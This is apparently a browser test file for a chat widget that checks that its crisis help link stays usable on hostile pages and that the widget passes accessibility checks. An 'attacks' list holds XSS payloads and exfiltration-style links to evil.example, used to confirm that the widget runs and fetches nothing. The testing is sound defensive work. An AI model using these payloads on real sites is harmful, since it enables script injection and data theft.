import axe from 'axe-core'
import {build} from 'esbuild'
import fc from 'fast-check'
import path from 'node:path'
import {afterAll, describe, expect, it} from 'vitest'
import {inlineCss} from '../../scripts/lib/read-inline-css.ts'
import {root} from '../../scripts/lib/run-command.ts'
import {setStage, type OpenPage} from './open-widget.ts'

const stage = await setStage()
const {open, host} = stage
afterAll(() => stage.end())

const chat = '<pixel-chat base-url="{api}" region="GB" open></pixel-chat>'
const danger = 'I want to kill myself tonight.'

/** What hostile pages do to everything in them. */
const rules = {
  'takes all styles away': '* {all: unset !important}',
  'dresses all buttons and letters':
    'button, a, textarea {display: none !important; color: red !important; font: 900 3px Impact !important; position: static !important}',
  'hides what it does not know':
    ':not(:defined), pixel-chat {display: none; opacity: 0; visibility: hidden; pointer-events: none}',
  'has small rems and a large zoom': 'html {font-size: 62.5%} body {zoom: 1.6}',
  'moves what is fixed': 'body {transform: translateX(-4000px); filter: blur(2px); overflow: hidden; contain: strict}',
}

/** Whether a person could press it: nothing of the page lies above. */
const isOnTop = ({page}: OpenPage, selector: string) =>
  page
    .locator(selector)
    .first()
    .evaluate((element) => {
      const {left, top, width, height} = element.getBoundingClientRect()
      const shadow = element.getRootNode() as ShadowRoot // the locator looks into shadow trees
      const found = shadow.elementFromPoint(left + width / 2, top + height / 2)
      return width > 40 && height > 20 && (element.contains(found) || found?.contains(element) === true)
    })

/** The machine may have other work; a condition is waited for, not a time. */
const patience = {timeout: 10_000}

const help = 'a[href="tel:999"]'

describe.skipIf(stage.browser === undefined)('on a page that', () => {
  for (const [what, style] of Object.entries(rules)) {
    it(`${what}, help can be seen and pressed`, async () => {
      const opened = await open(`<style>${style}</style>${chat}`)
      await opened.say(danger)
      await opened.page.locator(help).waitFor()
      expect(await isOnTop(opened, help)).toBe(true)
      const size = await opened.page.locator(help).evaluate((one) => parseFloat(getComputedStyle(one).fontSize))
      expect(size).toBeGreaterThan(14)
      expect(opened.complaints).toEqual([])
      await opened.close()
    })
  }

  for (const mode of ['launcher', 'inline', 'page'])
    it(`covers everything with the highest z-index, help lies above it with mode="${mode}"`, async () => {
      const style =
        '<style>#over {position: fixed; inset: 0; z-index: 2147483647; background: red; opacity: .9}</style>'
      const opened = await open(`${style}<div id="over"></div>${chat.replace(' open', ` open mode="${mode}"`)}`)
      await opened.say(danger)
      await opened.page.locator(help).waitFor()
      await expect.poll(() => isOnTop(opened, help), patience).toBe(true)
      await opened.close()
    })

  it('is in a frame, works there', async () => {
    const inner = host.page(chat)
    const opened = await open(`<iframe src="${inner}" width="400" height="600"></iframe>`, {
      policy: "default-src 'none'; frame-src 'self'",
      script: 'none',
    })
    const frame = opened.page.frameLocator('iframe')
    await frame.locator('textarea').fill(danger)
    await opened.page.keyboard.press('Enter')
    await frame.locator(help).waitFor()
    expect(opened.complaints).toEqual([])
    await opened.close()
  })

  it.each([
    {from: 'the script', script: 'module' as const, begin: ''},
    {
      from: 'npm',
      script: 'none' as const,
      begin: "import {definePixelChat} from './src/widget.ts'; definePixelChat();",
    },
  ])('has a React of its own, takes the element from $from, and props and events', async ({script, begin}) => {
    const {outputFiles} = await build({
      stdin: {
        contents: `${begin}
          import {createElement, useState} from 'react'
          import {createRoot} from 'react-dom/client'
          function Page() {
            const [level, setLevel] = useState('none')
            return createElement('main', null, createElement('p', null, 'level: ' + level),
              createElement('pixel-chat', {'base-url': '${host.api.url}', region: 'GB', open: true, greeting: 'From React',
                'onpixel-risk': ({detail}) => setLevel(detail.level)}))
          }
          createRoot(document.body.appendChild(document.createElement('div'))).render(createElement(Page))`,
        resolveDir: path.join(root, 'packages/react'),
      },
      bundle: true,
      write: false,
      format: 'iife',
      jsx: 'automatic',
      conditions: ['@pixelated/source'],
      plugins: [inlineCss],
      define: {'process.env.NODE_ENV': '"production"'},
    })
    const file = host.script(outputFiles[0]?.text ?? '')
    const opened = await open(`<script src="${file}"></script>`, {script})
    await opened.page.getByText('From React').waitFor()
    await opened.say(danger)
    await opened.page.getByText('level: imminent').waitFor()
    await opened.page.locator(help).waitFor()
    expect(opened.complaints).toEqual([])
    await opened.close()
  })

  it('runs from right to left, has it on the left and in its language', async () => {
    const opened = await open('<pixel-chat base-url="{api}"></pixel-chat>', {html: 'lang="ar" dir="rtl"'})
    const launcher = opened.page.getByRole('button', {name: 'فتح المحادثة'})
    await launcher.waitFor()
    expect((await launcher.boundingBox())?.x).toBeLessThan(100)
    await launcher.click()
    expect(await opened.page.locator('.pixel-chat').evaluate((one) => getComputedStyle(one).direction)).toBe('rtl')
    await opened.close()
  })

  it.each([
    {width: 240, height: 600},
    {width: 800, height: 200},
    {width: 240, height: 200},
  ])('is $width by $height pixels, one can write and reach help', async (viewport) => {
    const opened = await open(chat, {context: {viewport}})
    await opened.say(danger)
    await opened.page.locator(help).waitFor()
    await opened.page.locator(help).scrollIntoViewIfNeeded()
    expect(await isOnTop(opened, help)).toBe(true)
    const wide = await opened.page.evaluate(() => document.documentElement.scrollWidth)
    expect(wide).toBeLessThanOrEqual(viewport.width)
    // By a key: a tap so soon after help has come counts as an accident.
    await opened.page.getByRole('button', {name: 'Fold this away'}).press('Enter')
    await opened.page.getByRole('textbox').fill('I am still here')
    await opened.page.getByRole('button', {name: 'Send', exact: true}).click()
    await opened.page.getByText('I am still here').first().waitFor()
    await opened.close()
  })

  it('is half under a keyboard, the field stays above it', async () => {
    const opened = await open(chat, {
      context: {viewport: {width: 360, height: 640}},
      before: () => {
        const viewport = Object.assign(new EventTarget(), {height: 340, width: 360, offsetTop: 0, scale: 1})
        Object.defineProperty(window, 'visualViewport', {value: viewport})
      },
    })
    const field = opened.page.getByRole('textbox')
    await expect.poll(async () => ((await field.boundingBox())?.y ?? 999) + 44, patience).toBeLessThanOrEqual(340)
    await opened.close()
  })

  it('is seen in forced colours, keeps edges around what can be pressed', async () => {
    const opened = await open('<pixel-chat base-url="{api}"></pixel-chat>', {context: {forcedColors: 'active'}})
    const launcher = opened.page.getByRole('button', {name: 'Open the chat'})
    expect(await launcher.evaluate((one) => getComputedStyle(one).borderTopStyle)).toBe('solid')
    await launcher.click()
    expect(await opened.page.locator('[part=panel]').evaluate((one) => getComputedStyle(one).borderTopWidth)).toBe(
      '1px',
    )
    await opened.close()
  })
})

describe.skipIf(stage.browser === undefined)('to axe, the element', () => {
  it('has nothing to fix: closed, open, in a crisis, and in the dark', async () => {
    const opened = await open(
      '<main><h1>Page</h1><pixel-chat base-url="{api}" quick-exit-url="/x" region="GB"></pixel-chat></main>',
    )
    const {page} = opened
    await page.evaluate(axe.source)
    const look = () =>
      page.evaluate(async () => {
        const {violations, passes} = await Reflect.get(window, 'axe').run('pixel-chat')
        if (passes.length < 5) return ['axe saw nothing']
        return violations.map(({id, nodes}: {id: string; nodes: {html: string}[]}) => `${id}: ${nodes[0]?.html}`)
      })
    const launcher = page.getByRole('button', {name: 'Open the chat'})
    await launcher.waitFor()
    expect(await look()).toEqual([])
    await launcher.click()
    await opened.say(danger)
    await opened.reply()
    expect(await look()).toEqual([])
    await page.emulateMedia({colorScheme: 'dark'})
    expect(await look()).toEqual([])
    await opened.close()
  })
})

const attacks = [
  '<img src=x onerror="window.hacked=1">',
  '<svg/onload=window.hacked=1>',
  '</textarea></script><script>window.hacked=1</script>',
  '[x](javascript:window.hacked=1)',
  '![x](https://evil.example/pixel.png?q=secret)',
  '<a href="data:text/html,<script>window.hacked=1</script>">x</a>',
  '"><iframe srcdoc="<script>parent.hacked=1</script>">',
  '[x](//evil.example/steal)',
  '<style>@import "https://evil.example/x.css"</style>',
  '{{constructor.constructor("window.hacked=1")()}}',
]

describe.skipIf(stage.browser === undefined)('what others have written', () => {
  it('runs nowhere and fetches nothing: messages, replies, attributes and words of the page', async () => {
    const opened = await open(chat)
    const {page} = opened
    const text = attacks.join('\n\n')
    await page.route(`${host.api.url}/infer-stream`, async (route) => {
      if (route.request().method() !== 'POST') return route.continue()
      const event = (name: string, data: unknown) => `event: ${name}\ndata: ${JSON.stringify(data)}\n\n`
      const risk = {level: text, signals: [{type: text}], evaluated_by: [text]}
      const body = event('start', {turn_id: text}) + event('risk', risk) + event('text_delta', {text})
      return route.fulfill({
        status: 200,
        headers: {'content-type': 'text/event-stream', 'access-control-allow-origin': '*'},
        body:
          body +
          event('final_response', {response: text, persona_mode: text, confidence: 1, risk, inference_time_ms: 1}),
      })
    })
    await opened.say(text)
    await opened.reply()
    await page.evaluate((all) => {
      const element = document.querySelector('pixel-chat')
      if (!element) return
      Object.assign(element, {view: 'clinician', variant: 'enhanced'})
      for (const attack of all) {
        for (const name of [
          'greeting',
          'locale',
          'region',
          'consent',
          'theme',
          'quick-exit-url',
          'class',
          'conversation',
        ])
          element.setAttribute(name, attack)
        Object.assign(element, {messages: {'chat.label': attack, 'chat.assistant': attack, 'composer.send': attack}})
      }
    }, attacks)
    await page.locator('[part=panel]').waitFor()
    await page.evaluate(() => document.querySelector('pixel-chat')?.send('again'))
    expect(await page.evaluate(() => window.hacked)).toBeUndefined()
    expect([...opened.origins].sort()).toEqual([host.url, host.api.url].sort())
    const found = await page.evaluate(() => {
      const shadow = document.querySelector('pixel-chat')?.shadowRoot
      return [
        ...(shadow?.querySelectorAll(
          'script, iframe, img, object, embed, style, link, [style*="url"], [onerror], [onload]',
        ) ?? []),
      ].length
    })
    expect(found).toBe(0)
    const links = await page
      .locator('pixel-chat a')
      .evaluateAll((all) => all.map((one) => one.getAttribute('href') ?? ''))
    expect(links.filter((href) => !/^(https:|mailto:|tel:|sms:|\/)/.test(href) || href.startsWith('//'))).toEqual([])
    await opened.close()
  })

  it('never throws at the page, whatever attributes and properties are set to', async () => {
    const opened = await open(chat)
    const names = await opened.page.evaluate(() => {
      const type = customElements.get('pixel-chat')
      const own = Object.getOwnPropertyNames(type?.prototype ?? {})
      const methods = [
        'constructor',
        'connectedCallback',
        'disconnectedCallback',
        'adoptedCallback',
        'attributeChangedCallback',
      ]
      const attributes: string[] = Reflect.get(type ?? {}, 'observedAttributes')
      return {attributes, properties: own.filter((name) => ![...methods, 'exit'].includes(name))}
    })
    const odd = fc.constantFrom('symbol', 'throwing', 'proxy', 'node', 'bigint', 'null', 'function')
    const text = fc.oneof(fc.string({unit: 'binary'}), fc.constantFrom('inline', 'page', '', 'true', '-1', ...attacks))
    const property = fc.constantFrom(...names.properties)
    const step = fc.oneof(
      fc.tuple(fc.constant('attribute'), fc.constantFrom(...names.attributes), text),
      fc.tuple(fc.constant('json'), property, fc.json()),
      fc.tuple(fc.constant('odd'), property, odd),
    )
    await fc.assert(
      fc.asyncProperty(fc.array(step, {minLength: 20, maxLength: 60}), async (steps) => {
        const thrown = await opened.page.evaluate(async (all) => {
          const fail = () => {
            throw new Error('from the page')
          }
          const odds: Record<string, unknown> = {
            symbol: Symbol('odd'),
            throwing: {
              toString: fail,
              get language() {
                return fail()
              },
              get words() {
                return fail()
              },
            },
            proxy: new Proxy({}, {get: fail, ownKeys: fail, getOwnPropertyDescriptor: fail}),
            node: document.body,
            bigint: 1n,
            null: null,
            function: fail,
          }
          document.querySelector('pixel-chat')?.remove()
          const element = document.createElement('pixel-chat')
          document.body.append(element)
          const problems: string[] = []
          for (const [kind, name, value] of all) {
            try {
              if (kind === 'attribute') element.setAttribute(name, value)
              else Reflect.set(element, name, kind === 'odd' ? odds[value] : JSON.parse(value))
            } catch (error) {
              problems.push(String(error))
            }
            await Promise.resolve()
          }
          await new Promise((resolve) => setTimeout(resolve))
          if (!element.shadowRoot?.querySelector('button')) problems.push('nothing is shown')
          return problems
        }, steps)
        expect(thrown).toEqual([])
      }),
      {numRuns: 25},
    )
    expect(opened.complaints.filter((text) => !text.startsWith('<pixel-chat>'))).toEqual([])
    await opened.close()
  }, 60_000)
})
